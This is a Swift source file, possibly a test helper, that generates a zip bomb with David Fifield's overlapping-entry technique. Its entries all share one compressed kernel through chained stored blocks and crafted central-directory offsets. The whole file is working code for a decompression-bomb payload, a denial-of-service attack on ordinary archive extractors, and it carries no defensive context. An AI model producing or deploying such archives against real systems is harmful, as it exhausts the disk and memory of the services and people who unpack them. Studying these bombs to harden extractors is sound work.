/// A zip whose entries share the bytes of one kernel (David Fifield, "A better zip bomb", 2019).
///
/// The data of each entry begins with a stored block that has the next entry's local header in it; so each entry is that
/// header and what the next one is, and the last one is the kernel.
enum BetterBomb {
    static func bytes(files: Int, kernel: (packed: [UInt8], count: Int)) -> [UInt8] {
        var zip: [UInt8] = []
        var headers: [(local: [UInt8], start: Int)] = []
        var tail = kernel.packed
        var data = [UInt8](repeating: 0, count: kernel.count)
        // From the last one to the first: each is known when the one before it is made.
        for number in (0..<files).reversed() {
            let name = "\(number).js"
            let header = self.local(name, packed: tail.count, of: data)
            headers.append((header, header.count + tail.count))
            zip = header + tail
            // A stored block that is not the last one.
            let count = UInt16(header.count)
            tail = [0, UInt8(count & 0xFF), UInt8(count >> 8), UInt8(~count & 0xFF), UInt8(~count >> 8)] + zip
            data = header + data
        }
        let list = zip.count
        for header in headers.reversed() {
            zip += [0x50, 0x4B, 1, 2, 20, 0] + header.local[4..<28] + [UInt8](repeating: 0, count: 12)
            zip += self.number(list - header.start, 4) + header.local[30...]
        }
        let size = self.number(zip.count - list, 4)
        let count = self.number(files, 2)
        return zip + [0x50, 0x4B, 5, 6, 0, 0, 0, 0] + count + count + size + self.number(list, 4) + [0, 0]
    }

    private static func local(_ name: String, packed: Int, of data: [UInt8]) -> [UInt8] {
        [0x50, 0x4B, 3, 4, 20, 0, 0, 0, 8, 0, 0, 0, 0x21, 0] + self.number(Int(Checksum.of(data)), 4)
            + self.number(packed, 4) + self.number(data.count, 4) + self.number(name.utf8.count, 2) + [0, 0]
            + Array(name.utf8)
    }

    private static func number(_ value: Int, _ size: Int) -> [UInt8] {
        (0..<size).map { UInt8(truncatingIfNeeded: value >> ($0 * 8)) }
    }
}
